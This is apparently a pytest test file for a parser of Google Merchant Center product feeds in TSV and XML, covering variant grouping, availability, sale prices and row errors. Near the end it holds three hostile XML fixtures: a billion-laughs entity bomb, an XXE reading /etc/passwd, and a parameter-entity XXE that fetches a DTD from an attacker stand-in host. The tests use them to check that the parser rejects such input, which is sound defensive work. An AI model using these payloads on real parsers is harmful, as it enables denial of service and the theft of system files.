"""Google Merchant Center feeds, TSV and XML: grouping, availability, sale prices, bad rows, hostile XML."""

from __future__ import annotations

import contextlib
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shoppable.domain.catalog.availability import InventoryPolicy
from shoppable.domain.catalog.formats import (
    FeedError,
    ParsedProduct,
    RowError,
    google,
    parse_google_tsv,
    parse_google_xml,
)
from shoppable.domain.catalog.money import Money
from shoppable.domain.errors import ErrorCode

EXAMPLES = Path(__file__).resolve().parents[3] / "examples"
COLUMNS = ["id", "title", "price", "availability"]


def tsv(*rows: dict[str, str], columns: list[str] | None = None, header: list[str] | None = None) -> bytes:
    """A tab-separated file, quoted the way Merchant Center's "quoted fields" expect."""
    names = columns or list(dict.fromkeys([*COLUMNS, *(key for row in rows for key in row)]))
    out = io.StringIO()
    writer = csv.writer(out, delimiter="\t", lineterminator="\n")
    writer.writerow(header or names)
    writer.writerows([row.get(name, "") for name in names] for row in rows)
    return out.getvalue().encode()


def item(id: str, **fields: str) -> dict[str, str]:
    return {"id": id, "title": f"Item {id}", "price": "10.00 USD", "availability": "in_stock"} | fields


def parse_tsv(data: bytes, **kwargs: int) -> list[ParsedProduct | RowError]:
    return list(parse_google_tsv(io.BytesIO(data), **kwargs))


def parse_xml(data: bytes | str) -> list[ParsedProduct | RowError]:
    return list(parse_google_xml(io.BytesIO(data.encode() if isinstance(data, str) else data)))


def products_of(items: list) -> list[ParsedProduct]:
    return [p for p in items if isinstance(p, ParsedProduct)]


def errors_of(items: list) -> list[tuple[int, str, ErrorCode]]:
    return sorted((e.row, e.field, e.code) for e in items if isinstance(e, RowError))


def only_product(items: list) -> ParsedProduct:
    assert errors_of(items) == []
    [product] = items
    return product


def test_items_sharing_a_group_become_one_product_with_options():
    # given three sizes/colours of one duvet cover and a single candle
    data = tsv(
        item(
            "DUV-SAGE-Q",
            title="Linen Duvet Cover - Sage / Queen",
            item_group_id="DUV 01",
            color="Sage",
            size="Queen",
            material="Linen",
            image_link="https://img.test/sage.jpg",
            additional_image_link="https://img.test/a.jpg, https://img.test/b.jpg",
            description="Stonewashed linen.",
            brand="Lumen",
            product_type="Bedding > Duvet Covers",
            link="https://shop.test/duvet",
            gtin="0841234500016",
            mpn="D-1",
        ),
        item(
            "DUV-SAGE-K",
            title="Linen Duvet Cover - Sage / King",
            item_group_id="DUV 01",
            color="Sage",
            size="King",
        ),
        item(
            "DUV-SAND-Q",
            title="Linen Duvet Cover - Sand / Queen",
            item_group_id="DUV 01",
            color="Sand",
            size="Queen",
        ),
        item("CANDLE", title="Cedar Candle", google_product_category="Home & Garden > Decor > Candles"),
    )
    # when parsed
    items = parse_tsv(data)
    # then the candle and the duvet are products; the duvet's options are what tells its items apart
    assert errors_of(items) == []
    by_handle = {p.draft.handle: p for p in products_of(items)}
    duvet = by_handle["duv-01"]
    assert duvet.external_id == "DUV 01"
    assert duvet.lines == (2, 3, 4)
    assert duvet.draft.title == "Linen Duvet Cover"
    assert duvet.draft.option_names == ("Color", "Size")
    assert [(s.sku, s.options, s.title) for s in duvet.draft.skus] == [
        ("DUV-SAGE-Q", (("Color", "Sage"), ("Size", "Queen")), "Linen Duvet Cover - Sage / Queen"),
        ("DUV-SAGE-K", (("Color", "Sage"), ("Size", "King")), "Linen Duvet Cover - Sage / King"),
        ("DUV-SAND-Q", (("Color", "Sand"), ("Size", "Queen")), "Linen Duvet Cover - Sand / Queen"),
    ]
    first = duvet.draft.skus[0]
    assert (first.gtin, first.mpn, first.image_url) == ("0841234500016", "D-1", "https://img.test/sage.jpg")
    assert duvet.draft.images == (
        "https://img.test/sage.jpg",
        "https://img.test/a.jpg",
        "https://img.test/b.jpg",
    )
    assert (duvet.draft.description, duvet.draft.brand, duvet.draft.category) == (
        "Stonewashed linen.",
        "Lumen",
        "Bedding",
    )
    assert ("link", "https://shop.test/duvet") in duvet.draft.extra
    assert ("material", "Linen") in duvet.draft.extra
    candle = by_handle["candle"]
    assert candle.draft.title == "Cedar Candle"
    assert candle.draft.category == "Home & Garden"
    assert candle.draft.skus[0].options == ()


@pytest.mark.parametrize(
    ("availability", "quantity", "policy"),
    [
        ("in_stock", None, InventoryPolicy.DENY),
        ("in stock", None, InventoryPolicy.DENY),
        ("available for order", None, InventoryPolicy.DENY),
        ("out_of_stock", 0, InventoryPolicy.DENY),
        ("Out Of Stock", 0, InventoryPolicy.DENY),
        ("preorder", None, InventoryPolicy.PREORDER),
        ("backorder", 0, InventoryPolicy.CONTINUE),
    ],
)
def test_availability_maps_to_quantity_and_policy(availability, quantity, policy):
    product = only_product(parse_tsv(tsv(item("A", availability=availability))))
    sku = product.draft.skus[0]
    assert (sku.quantity, sku.inventory_policy) == (quantity, policy)


def test_a_sale_price_becomes_the_price_and_the_price_the_compare_at():
    product = only_product(parse_tsv(tsv(item("A", price="15.00 USD", sale_price="12.50 USD"))))
    sku = product.draft.skus[0]
    assert (sku.price, sku.compare_at_price) == (Money(1250, "USD"), Money(1500, "USD"))


def test_headers_are_case_insensitive_and_may_carry_the_g_prefix():
    data = tsv(
        item("A", item_group_id="G"),
        columns=["id", "title", "price", "availability", "item_group_id"],
        header=["G:ID", "Title", "g:price", " Availability ", "Item Group ID"],
    )
    assert only_product(parse_tsv(data)).draft.handle == "g"


def test_missing_required_columns_fail_the_file():
    with pytest.raises(FeedError, match="price"):
        parse_tsv(b"id\ttitle\tavailability\nA\tLamp\tin_stock\n")


@pytest.mark.parametrize(
    ("fields", "field", "code"),
    [
        ({"price": "abc"}, "price", ErrorCode.INVALID),
        ({"price": "15,00 USD"}, "price", ErrorCode.INVALID),
        ({"price": "15.00 XYZ"}, "price", ErrorCode.INVALID),
        ({"price": ""}, "price", ErrorCode.REQUIRED),
        ({"availability": "maybe"}, "availability", ErrorCode.INVALID),
        ({"availability": ""}, "availability", ErrorCode.REQUIRED),
        ({"id": ""}, "id", ErrorCode.REQUIRED),
        ({"title": ""}, "title", ErrorCode.REQUIRED),
        ({"sale_price": "10.00 USD"}, "sale_price", ErrorCode.INVALID),
        ({"sale_price": "12.00 USD"}, "sale_price", ErrorCode.INVALID),
        ({"sale_price": "5.00 EUR"}, "sale_price", ErrorCode.INVALID),
        ({"image_link": "data:image/png;base64,AAAA"}, "image_link", ErrorCode.INVALID),
        ({"item_group_id": "!!!"}, "item_group_id", ErrorCode.INVALID),
    ],
)
def test_a_bad_row_is_reported_with_its_line_and_column_while_the_rest_parses(fields, field, code):
    items = parse_tsv(tsv(item("FIRST"), item("BAD") | fields, item("LAST")))
    [error] = [e for e in items if isinstance(e, RowError)]
    assert (error.row, error.field, error.code) == (3, field, code)
    assert error.external_id == (fields.get("id", "BAD") or None)
    assert sorted(p.external_id for p in products_of(items)) == ["FIRST", "LAST"]


def test_an_unknown_currency_says_so():
    [error] = parse_tsv(tsv(item("A", price="15.00 XYZ")))
    assert "Unknown currency" in error.message


def test_one_bad_item_fails_its_whole_group_and_nothing_else():
    data = tsv(
        item("A-S", item_group_id="A", size="S"),
        item("A-M", item_group_id="A", size="M", price="oops"),
        item("B", item_group_id="B"),
    )
    items = parse_tsv(data)
    assert errors_of(items) == [(3, "price", ErrorCode.INVALID)]
    assert [p.draft.handle for p in products_of(items)] == ["b"]


def test_an_item_missing_the_option_its_siblings_set_is_reported():
    data = tsv(
        item("A-S", item_group_id="A", size="S"),
        item("A-M", item_group_id="A", size="M"),
        item("A-X", item_group_id="A"),
    )
    assert errors_of(parse_tsv(data)) == [(4, "size", ErrorCode.REQUIRED)]


def test_an_attribute_with_one_value_in_the_group_describes_the_product():
    data = tsv(
        item("A-S", item_group_id="A", size="S", material="Jute"),
        item("A-M", item_group_id="A", size="M"),
    )
    product = only_product(parse_tsv(data))
    assert product.draft.option_names == ("Size",)
    assert ("material", "Jute") in product.draft.extra


def test_items_that_differ_in_nothing_we_map_are_duplicate_options():
    items = parse_tsv(tsv(item("A-1", item_group_id="A"), item("A-2", item_group_id="A")))
    assert errors_of(items) == [(3, "color/size/material/pattern", ErrorCode.DUPLICATE)]


def test_an_id_used_twice_is_a_duplicate():
    items = parse_tsv(tsv(item("SAME"), item("OTHER"), item("SAME", title="Again")))
    assert errors_of(items) == [(4, "id", ErrorCode.DUPLICATE)]
    assert sorted(p.external_id for p in products_of(items)) == ["OTHER", "SAME"]


def test_the_same_id_in_two_groups_is_a_duplicate_sku():
    items = parse_tsv(tsv(item("X", item_group_id="A"), item("X", item_group_id="B")))
    assert errors_of(items) == [(3, "id", ErrorCode.DUPLICATE)]


def test_group_rows_out_of_order_within_the_window_still_merge():
    data = tsv(
        item("A-S", item_group_id="A", size="S"),
        item("B"),
        item("C"),
        item("A-M", item_group_id="A", size="M"),
    )
    items = parse_tsv(data, group_window=5)
    assert errors_of(items) == []
    [group] = [p for p in products_of(items) if p.draft.handle == "a"]
    assert group.lines == (2, 5)


def test_group_rows_further_apart_than_the_window_are_reported_not_split():
    data = tsv(
        item("A-S", item_group_id="A", size="S"),
        item("B"),
        item("C"),
        item("A-M", item_group_id="A", size="M"),
    )
    items = parse_tsv(data, group_window=2)
    assert errors_of(items) == [(5, "item_group_id", ErrorCode.DUPLICATE)]
    [group] = [p for p in products_of(items) if p.draft.handle == "a"]
    assert [s.sku for s in group.draft.skus] == ["A-S"]


def test_a_single_item_may_not_take_the_handle_of_a_group():
    items = parse_tsv(tsv(item("A-S", item_group_id="lamp", size="S"), item("lamp")))
    assert errors_of(items) == [(3, "id", ErrorCode.DUPLICATE)]


def test_tsv_with_bom_and_quoted_cells():
    data = b'\xef\xbb\xbfid\ttitle\tprice\tavailability\tdescription\nA\tLamp\t9.99 USD\tin_stock\t"Two\nlines"\n'
    product = only_product(parse_tsv(data))
    assert product.draft.description == "Two\nlines"


def test_a_file_that_is_not_utf8_fails_with_a_clear_message():
    with pytest.raises(FeedError, match="UTF-8"):
        parse_tsv(tsv(item("A", title="Caf\xe9")).replace("Café".encode(), b"Caf\xe9"))


def test_the_lumen_example_parses_without_errors():
    with (EXAMPLES / "lumen-google.tsv").open("rb") as stream:
        items = list(parse_google_tsv(stream))
    assert errors_of(items) == []
    drafts = {p.draft.handle: p.draft for p in items}
    assert len(drafts) == 10
    assert {s.price.currency for d in drafts.values() for s in d.skus} == {"USD"}
    assert drafts["lh-mug"].skus[1].quantity == 0
    assert drafts["lh-vas-tall"].skus[0].inventory_policy is InventoryPolicy.PREORDER
    assert drafts["lh-duv"].option_names == ("Color", "Size")
    assert any(s.compare_at_price for d in drafts.values() for s in d.skus)


# --- XML ------------------------------------------------------------------------------------------------

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:g="http://base.google.com/ns/1.0">
  <channel>
    <title>Lumen Home</title>
    <link>https://shop.test</link>
    <item>
      <g:id>LMP-BRASS</g:id>
      <title>Arc Table Lamp Brass</title>
      <description>Dimmable &amp; warm.</description>
      <link>https://shop.test/lamp</link>
      <g:image_link>https://img.test/brass.jpg</g:image_link>
      <g:additional_image_link>https://img.test/alt1.jpg</g:additional_image_link>
      <g:additional_image_link>https://img.test/alt2.jpg</g:additional_image_link>
      <g:price>129.00 USD</g:price>
      <g:sale_price>99.00 USD</g:sale_price>
      <g:availability>in stock</g:availability>
      <g:item_group_id>LMP</g:item_group_id>
      <g:color>Brass</g:color>
      <g:shipping><g:country>US</g:country><g:price>5.00 USD</g:price></g:shipping>
    </item>
    <item>
      <g:id>LMP-BLACK</g:id>
      <g:title>Arc Table Lamp Black</g:title>
      <g:price>129.00 USD</g:price>
      <g:availability>out_of_stock</g:availability>
      <g:item_group_id>LMP</g:item_group_id>
      <g:color>Black</g:color>
    </item>
    <item>
      <g:id>BROKEN</g:id>
      <title>Broken</title>
      <g:price>twelve</g:price>
      <g:availability>in_stock</g:availability>
    </item>
  </channel>
</rss>
"""


def test_rss_items_are_grouped_and_numbered_by_their_source_line():
    items = parse_xml(RSS)
    assert errors_of(items) == [(29, "price", ErrorCode.INVALID)]
    [lamp] = products_of(items)
    assert lamp.lines == (6, 21)
    assert lamp.draft.title == "Arc Table Lamp"
    assert lamp.draft.description == "Dimmable & warm."
    assert lamp.draft.images == (
        "https://img.test/brass.jpg",
        "https://img.test/alt1.jpg",
        "https://img.test/alt2.jpg",
    )
    brass, black = lamp.draft.skus
    assert (brass.price, brass.compare_at_price, brass.options) == (
        Money(9900, "USD"),
        Money(12900, "USD"),
        (("Color", "Brass"),),
    )
    assert (black.quantity, black.options) == (0, (("Color", "Black"),))


def test_atom_entries_are_read_too():
    atom = """<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:g="http://base.google.com/ns/1.0">
  <title>Shop</title>
  <entry>
    <id>tag:shop.test,2025:1</id>
    <g:id>VASE</g:id>
    <title>Ribbed Vase</title>
    <summary>Matte ceramic.</summary>
    <link href="https://shop.test/vase"/>
    <g:price>58.00 USD</g:price>
    <g:availability>preorder</g:availability>
  </entry>
</feed>"""
    product = only_product(parse_xml(atom))
    assert product.draft.skus[0].sku == "VASE"
    assert product.draft.description == "Matte ceramic."
    assert ("link", "https://shop.test/vase") in product.draft.extra
    assert product.draft.skus[0].inventory_policy is InventoryPolicy.PREORDER


def test_an_oversized_xml_field_fails_its_item(monkeypatch):
    monkeypatch.setattr(google, "MAX_FIELD_CHARS", 100)
    items = parse_xml(RSS.replace("Dimmable &amp; warm.", "x" * 500))
    assert (6, "description", ErrorCode.TOO_LARGE) in errors_of(items)


def test_xml_with_a_bom_parses():
    assert len(products_of(parse_xml(b"\xef\xbb\xbf" + RSS.encode()))) == 1


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss><channel><item><title>&lol3;</title></item></channel></rss>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss xmlns:g="http://base.google.com/ns/1.0"><channel><item><g:id>&xxe;</g:id></item></channel></rss>"""

XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.test/evil.dtd"> %remote;]>
<rss><channel/></rss>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, XXE_PARAMETER])
def test_entity_attacks_fail_the_file(payload):
    with pytest.raises(FeedError, match="entit"):
        parse_xml(payload)


def test_malformed_xml_fails_with_its_line():
    with pytest.raises(FeedError, match="line 3"):
        parse_xml("<rss>\n<channel>\n<item></channel></rss>")


def test_an_xml_document_that_is_not_a_feed_fails():
    with pytest.raises(FeedError, match="<html>"):
        parse_xml("<html><body/></html>")


def test_a_truncated_xml_feed_fails_after_the_items_before_the_cut():
    cut = RSS[: RSS.index("<item>\n      <g:id>BROKEN")]
    with pytest.raises(FeedError, match="malformed"):
        parse_xml(cut)


# --- properties ---------------------------------------------------------------------------------------

_text = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Zs", "Zl", "Zp")), min_size=1, max_size=20
)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.from_regex(r"[A-Z0-9]{1,8}", fullmatch=True),
            _text,
            st.integers(0, 10**8),
            st.sampled_from(["in_stock", "out_of_stock", "preorder", "backorder"]),
        ),
        min_size=1,
        max_size=8,
        unique_by=lambda row: row[0],
    )
)
def test_generated_tsv_items_round_trip(rows):
    data = tsv(
        *(
            item(id, title=title, price=f"{cents / 100:.2f} EUR", availability=a)
            for id, title, cents, a in rows
        )
    )
    products = {p.external_id: p.draft for p in parse_tsv(data)}
    assert set(products) == {id for id, *_ in rows}
    for id, title, cents, _ in rows:
        assert products[id].title == title
        assert products[id].skus[0].price == Money(cents, "EUR")


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=300))
def test_arbitrary_bytes_raise_nothing_but_feed_error(data):
    for parse in (parse_tsv, parse_xml):
        try:
            for item_ in parse(data):
                assert isinstance(item_, (ParsedProduct, RowError))
        except FeedError:
            pass


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="<>/?!&;=\"' \nabcrssitemfeedg:id", max_size=200))
def test_xml_like_text_raises_nothing_but_feed_error(text):
    with contextlib.suppress(FeedError):
        parse_xml(text)
